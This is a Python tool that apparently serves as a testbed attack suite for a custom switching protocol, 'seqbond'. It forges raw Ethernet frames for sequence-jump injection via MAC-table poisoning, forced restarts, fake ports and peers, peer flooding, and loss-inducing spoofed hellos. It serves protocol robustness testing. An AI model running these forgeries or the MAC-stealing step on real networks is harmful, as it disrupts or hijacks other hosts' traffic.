#!/usr/bin/env python3
"""Forge seqbond frames from one switch port, knowing only what hellos flood to every port.

The attacks of issue 33, each against the hosts heard on the switch (docs/wire-format.md has
the frames). Run in the namespace of a port attached to a switch (seqbond-testbed attach S);
it first listens to the group hellos for --learn seconds (host ids, instances, port MACs and
indexes, hello sequence numbers), then sends until --time runs out or it is signalled.

Usage: sb_forge.py ATTACK IFACE [options]
  learn        print what the hellos on IFACE tell (one line per host port), nothing sent
  jump         --from A --to B [--ahead N] [--wait S]: two DATA frames in a row, N (default
               100000) past A's sequence towards B (A's port MAC and path id; the sequence
               read from one DATA frame of A's that B's port MAC, taken over for an instant,
               brings to this port), sent S seconds after that frame
  restart      --host B [--pps 100]: B's hello, a new instance number each time
  add-ports    --host B [--first P] [--last 15]: B's hello from port indexes it does not
               have (n ports 16), listing every other host's port here with MTU_OK and TX
  slow-peer    [--id N] [--rate-kbps 1]: a new peer announcing a port of that rate, hearing
               every host's port here
  fill         [--ids 80] [--first-id N] [--period-ms 100]: that many new peers, each
               hello once per period
  loss         --host A [--pps 3] [--gap 99000] [--kinds hello,data]: A's hello with its
               hello sequence --gap ahead of the last one (of A's or of ours), and a DATA
               frame to every other host's port with a random path sequence and sequence
               number (--kinds: only those)
  wait-hello   --host H [--src MAC] [--timeout S]: print the time (epoch seconds) of the
               first hello of H (from MAC) seen on IFACE, sent or received; nothing sent
Options: --learn S (default 1.0), --time S (default 0: until SIGTERM/SIGINT), --seed N.
Frames leave from IFACE's own MAC unless an attack needs another port's (jump, loss): a
port that took another's MAC at a hundred frames a second would black-hole that port's
frames at the switch whatever seqbond does (port security is the switch's business).

Prints '# ...' lines as it goes, then 'sent N' (frames) on stdout. Exit 0; 2 bad usage;
3 what the attack needs was not heard (no such host on this switch, no DATA to read).
"""
import argparse
import random
import select
import signal
import socket
import struct
import sys
import time

ETH_P_SB = 0x88B5
ETH_P_ALL = 0x0003
ETH_P_JUNK = 0x88B6                     # IEEE local experimental 2: nobody's
HELLO_GROUP = bytes.fromhex("035342000001")
PACKET_OUTGOING = 4

TYPE_DATA, TYPE_HELLO = 0, 2
SHIM = struct.Struct("!BBBBI")          # ver/type, flags, path id, path seq, seq
F_ELIDED = 0x01
HELLO = struct.Struct("!II6sBBIHHBBHIIHH")  # the fixed 40 bytes at offset 22
HF_PROBE, HF_PARTIAL, HF_UNICAST, HF_BRIEF = 0x01, 0x02, 0x04, 0x08
ENTRY = struct.Struct("!IBBHIIIII")     # 28 bytes; brief entries are the first 8
EF_MTU_OK, EF_TX = 0x01, 0x02
ETH_HLEN, SHIM_LEN = 14, 8
HELLO_OFF = ETH_HLEN + SHIM_LEN
OFF_INSTANCE, OFF_PORT, OFF_NPORTS, OFF_SEQ = 26, 36, 37, 50

stop = False


def note(msg):
    print("# " + msg, file=sys.stderr, flush=True)


def mac_str(b):
    return ":".join("%02x" % x for x in b)


def mac_bytes(s):
    return bytes.fromhex(s.replace(":", ""))


def now_us():
    return int(time.monotonic() * 1e6) & 0xFFFFFFFF


class Port:
    """One host port heard on this switch: its latest group hello."""

    def __init__(self, mac, hello, frame):
        self.mac = mac
        self.update(hello, frame)

    def update(self, hello, frame):
        (self.host, self.instance, self.agg, self.index, self.n_ports, self.rate,
         self.interval, self.mtu, self.mult, self.flags, self.probe_ms, self.seq,
         self.tx_time, self.n_entries, _) = hello
        self.version = frame[ETH_HLEN] >> 4
        # A template: the frame less its probe padding, and the bytes after its entries
        # (none in version 2; kept so that a later version's trailer goes along).
        elen = 8 if self.flags & HF_BRIEF else ENTRY.size
        end = HELLO_OFF + HELLO.size + self.n_entries * elen
        if not self.flags & HF_PROBE:
            self.frame = frame
            self.trailer = frame[end:]
        elif not hasattr(self, "frame"):
            self.frame = frame[:end]
            self.trailer = b""


class Switch:
    """What the hellos flooded on IFACE say, and the sockets to send and listen with."""

    def __init__(self, ifc):
        self.ifc = ifc
        self.mac = mac_bytes(open("/sys/class/net/%s/address" % ifc).read().strip())
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.tx.bind((ifc, 0))
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_SB))
        self.rx.bind((ifc, ETH_P_SB))
        self.rx.setblocking(False)
        self.ports = {}                 # (host id, port index) -> Port
        self.sent = 0

    def send(self, frame):
        try:
            self.tx.send(frame)
            self.sent += 1
        except OSError as e:           # a full qdisc: the frame is lost, as on a wire
            note("send: %s" % e)

    def frames(self, timeout):
        """Frames of EtherType 0x88B5 received within @timeout s (not our own sends); those
        already queued first, also with @timeout 0."""
        end = time.monotonic() + timeout
        while not stop:
            try:
                frame, addr = self.rx.recvfrom(65535)
            except BlockingIOError:
                left = end - time.monotonic()
                if left <= 0:
                    return
                select.select([self.rx], [], [], left)
                continue
            if addr[2] != PACKET_OUTGOING:
                yield frame

    def take(self, frame):
        """Learn from a group hello; returns (host id, port index) or None."""
        h = parse_hello(frame)
        if h is None or frame[:6] != HELLO_GROUP or h[9] & HF_UNICAST:
            return None
        key = (h[0], h[3])
        if key in self.ports:
            self.ports[key].mac = frame[6:12]
            self.ports[key].update(h, frame)
        else:
            self.ports[key] = Port(frame[6:12], h, frame)
        return key

    def listen(self, seconds):
        for frame in self.frames(seconds):
            self.take(frame)

    def host_port(self, host):
        """The port of @host heard here (the lowest index if several), or exit 3."""
        mine = sorted(k for k in self.ports if k[0] == host)
        if not mine:
            note("host %d not heard on %s (heard: %s)" % (host, self.ifc, self.hosts()))
            sys.exit(3)
        return self.ports[mine[0]]

    def hosts(self):
        return sorted({k[0] for k in self.ports})

    def others(self, *not_hosts):
        return [p for k, p in sorted(self.ports.items()) if k[0] not in not_hosts]

    def mtu(self):
        return min((p.mtu for p in self.ports.values()), default=1500)

    def version(self):
        return max((p.version for p in self.ports.values()), default=2)


def parse_hello(frame):
    if len(frame) < HELLO_OFF + HELLO.size or frame[12:14] != b"\x88\xb5":
        return None
    if frame[ETH_HLEN] & 0x0F != TYPE_HELLO:
        return None
    return HELLO.unpack_from(frame, HELLO_OFF)


def entries(ports):
    """Full entries saying we hear each of @ports, our probes arriving, data going there."""
    return b"".join(ENTRY.pack(p.host, p.index, EF_MTU_OK | EF_TX, 0, 100, 0, 0, 0, 0)
                    for p in ports)


def hello(sw, src, host, instance, agg, index, n_ports, rate, mtu, seq, listed,
          interval=100, mult=4, trailer=b""):
    """A complete group hello from scratch: announcing @interval ms x @mult, no probes."""
    body = HELLO.pack(host, instance, agg, index, n_ports, rate, interval, mtu, mult, 0, 0,
                      seq & 0xFFFFFFFF, now_us(), len(listed), 0)
    return (HELLO_GROUP + src + struct.pack("!H", ETH_P_SB) +
            SHIM.pack(sw.version() << 4 | TYPE_HELLO, 0, 0, 0, 0) + body + entries(listed) +
            trailer)


def patched(port, **fields):
    """@port's latest group hello with some fixed-part fields replaced, not a probe."""
    f = bytearray(port.frame)
    h = list(HELLO.unpack_from(f, HELLO_OFF))
    names = ["host", "instance", "agg", "index", "n_ports", "rate", "interval", "mtu", "mult",
             "flags", "probe_ms", "seq", "tx_time", "n_entries", "reserved"]
    for k, v in fields.items():
        h[names.index(k)] = v & 0xFFFFFFFF if isinstance(v, int) else v
    h[9] &= ~HF_PROBE
    HELLO.pack_into(f, HELLO_OFF, *h)
    return f


def data(sw, dst, src, path, pseq, seq):
    """An elided DATA frame carrying nobody's EtherType (a kernel drops it)."""
    return (dst + src + struct.pack("!H", ETH_P_SB) +
            SHIM.pack(sw.version() << 4 | TYPE_DATA, F_ELIDED, path, pseq & 0xFF,
                      seq & 0xFFFFFFFF) + struct.pack("!H", ETH_P_JUNK) + bytes(46))


def paced(pps, seconds):
    """Yield tick numbers at @pps until @seconds (0: until signalled) or a signal."""
    t0 = time.monotonic()
    i = 0
    while not stop and (seconds <= 0 or time.monotonic() - t0 < seconds):
        yield i
        i += 1
        delay = t0 + i / pps - time.monotonic()
        if delay > 0:
            time.sleep(delay)


def attack_learn(sw, a):
    for (host, idx), p in sorted(sw.ports.items()):
        print("host %d port %d mac %s instance %08x agg %s ports %d rate %d interval %d "
              "mtu %d mult %d hello_seq %d version %d" %
              (host, idx, mac_str(p.mac), p.instance, mac_str(p.agg), p.n_ports, p.rate,
               p.interval, p.mtu, p.mult, p.seq, p.version))


def attack_jump(sw, a):
    src, dst = sw.host_port(a.src_host), sw.host_port(a.to)
    # To dst's own MAC, from it: the switch learns it here and forwards the frame nowhere.
    poison = dst.mac + dst.mac + struct.pack("!H", ETH_P_JUNK) + bytes(46)
    end = time.monotonic() + a.steal_timeout
    stolen = None
    # The switch learns dst's MAC here from the first frame, until dst's port sends again;
    # meanwhile a frame of src's towards it comes here: its sequence number is src's now.
    while stolen is None and time.monotonic() < end and not stop:
        sw.send(poison)
        for f in sw.frames(0.02):
            if (len(f) >= ETH_HLEN + SHIM_LEN and f[0:6] == dst.mac and f[6:12] == src.mac
                    and f[ETH_HLEN] & 0x0F == TYPE_DATA):
                stolen = SHIM.unpack_from(f, ETH_HLEN)
                break
    if stolen is None:
        note("no DATA frame from host %d to host %d in %.1f s: is traffic running?" %
             (a.src_host, a.to, a.steal_timeout))
        sys.exit(3)
    _, _, path, pseq, seq = stolen
    # Until dst's port sends again the switch brings frames for it here: wait for one of its
    # (a hello, flooded) so that ours reach it.
    back = False
    for f in sw.frames(1.0):
        if f[6:12] == dst.mac:
            back = True
            break
    if not back:
        note("host %d's port did not send for 1 s: sending anyway" % a.to)
    # Two frames in a row at the receiver: none of src's between them, so after its traffic.
    time.sleep(a.wait)
    note("host %d -> %d: DATA seq %u on path %d (path seq %d); sending %u and %u" %
         (a.src_host, a.to, seq, path, pseq, seq + a.ahead, seq + a.ahead + 1))
    for i in range(2):
        sw.send(data(sw, dst.mac, src.mac, path, pseq + 1 + i, seq + a.ahead + i))


def attack_restart(sw, a):
    victim = sw.host_port(a.host)
    for i in paced(a.pps, a.time):
        f = patched(victim, instance=random.getrandbits(32) | 1, seq=victim.seq + i)
        f[6:12] = sw.mac
        sw.send(bytes(f))


def attack_add_ports(sw, a):
    victim = sw.host_port(a.host)
    first = a.first if a.first is not None else victim.n_ports
    idxs = list(range(first, a.last + 1))
    listed = sw.others(a.host)
    note("host %d: ports %s with MTU_OK, listing %s" %
         (a.host, idxs, [(p.host, p.index) for p in listed]))
    # Every 50 ms, announcing 100 ms x 4: the paths stay up.
    for i in paced(20, a.time):
        for idx in idxs:
            sw.send(hello(sw, sw.mac, a.host, victim.instance, victim.agg, idx, 16,
                          victim.rate, victim.mtu, i, listed, trailer=victim.trailer))


def new_peer(sw, host_id, rate, listed, seq):
    agg = bytes([0x02, 0x5F]) + struct.pack("!I", host_id)
    inst = (host_id * 2654435761) & 0xFFFFFFFF | 1
    return hello(sw, sw.mac, host_id, inst, agg, 0, 1, rate, sw.mtu(), seq, listed)


def attack_slow_peer(sw, a):
    listed = sw.others()
    note("peer %d announcing %d kbit/s, listing %s" %
         (a.id, a.rate_kbps, [(p.host, p.index) for p in listed]))
    for i in paced(20, a.time):
        sw.send(new_peer(sw, a.id, a.rate_kbps, listed, i))


def attack_fill(sw, a):
    listed = sw.others()
    rate = max((p.rate for p in listed), default=100000)
    note("%d peers %d..%d, each every %d ms" %
         (a.ids, a.first_id, a.first_id + a.ids - 1, a.period_ms))
    for i in paced(1000.0 / a.period_ms, a.time):
        for k in range(a.ids):
            sw.send(new_peer(sw, a.first_id + k, rate, listed, i))


def attack_loss(sw, a):
    victim = sw.host_port(a.host)
    targets = sw.others(a.host)
    fseq = None
    for _ in paced(a.pps, a.time):
        sw.listen(0)                    # the victim's latest number, for the first jump
        # Each jump from the last: the victim's own hellos fall behind and count nothing.
        fseq = ((victim.seq if fseq is None else fseq) + a.gap) & 0xFFFFFFFF
        if "hello" in a.kinds:
            sw.send(bytes(patched(victim, seq=fseq)))
        for t in targets if "data" in a.kinds else ():
            sw.send(data(sw, t.mac, victim.mac, victim.index, random.getrandbits(8),
                         random.getrandbits(32)))


def attack_wait_hello(sw, a):
    want = mac_bytes(a.src) if a.src else None
    # Bound to every protocol: only such sockets see what others send out of IFACE too.
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    rx.bind((sw.ifc, ETH_P_ALL))
    rx.settimeout(0.2)
    end = time.monotonic() + a.timeout
    while time.monotonic() < end and not stop:
        try:
            frame = rx.recv(65535)
        except socket.timeout:
            continue
        h = parse_hello(frame)
        if h and h[0] == a.host and (want is None or frame[6:12] == want):
            print("%.6f" % time.time(), flush=True)
            return
    note("no hello of host %d%s in %.1f s" % (a.host, " from " + a.src if a.src else "",
                                               a.timeout))
    sys.exit(3)


ATTACKS = {
    "learn": attack_learn, "jump": attack_jump, "restart": attack_restart,
    "add-ports": attack_add_ports, "slow-peer": attack_slow_peer, "fill": attack_fill,
    "loss": attack_loss, "wait-hello": attack_wait_hello,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("iface")
    ap.add_argument("--learn", type=float, default=1.0)
    ap.add_argument("--time", type=float, default=0)
    ap.add_argument("--seed", type=int)
    ap.add_argument("--host", type=int)
    ap.add_argument("--from", dest="src_host", type=int)
    ap.add_argument("--to", type=int)
    ap.add_argument("--ahead", type=int, default=100000)
    ap.add_argument("--steal-timeout", type=float, default=3.0)
    ap.add_argument("--wait", type=float, default=0)
    ap.add_argument("--pps", type=float)
    ap.add_argument("--first", type=int)
    ap.add_argument("--last", type=int, default=15)
    ap.add_argument("--id", type=int, default=900)
    ap.add_argument("--rate-kbps", type=int, default=1)
    ap.add_argument("--ids", type=int, default=80)
    ap.add_argument("--first-id", type=int, default=1000)
    ap.add_argument("--period-ms", type=float, default=100)
    ap.add_argument("--gap", type=int, default=99000)
    ap.add_argument("--kinds", default="hello,data")
    ap.add_argument("--src")
    ap.add_argument("--timeout", type=float, default=20)
    a = ap.parse_args()
    need = {"jump": ("src_host", "to"), "restart": ("host",), "add-ports": ("host",),
            "loss": ("host",), "wait-hello": ("host",)}
    for opt in need.get(a.attack, ()):
        if getattr(a, opt) is None:
            ap.error("%s needs --%s" % (a.attack, "from" if opt == "src_host" else opt))
    if a.pps is None:
        a.pps = 3 if a.attack == "loss" else 100
    random.seed(a.seed)

    def on_signal(*_):
        global stop
        stop = True
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sw = Switch(a.iface)
    if a.attack != "wait-hello":
        sw.listen(a.learn)
        note("%s: heard %s on %s (%d ports)" % (a.attack, sw.hosts(), a.iface, len(sw.ports)))
        if a.attack != "learn":
            note("%s: attacking" % a.attack)
    ATTACKS[a.attack](sw, a)
    print("sent %d" % sw.sent, flush=True)


if __name__ == "__main__":
    main()
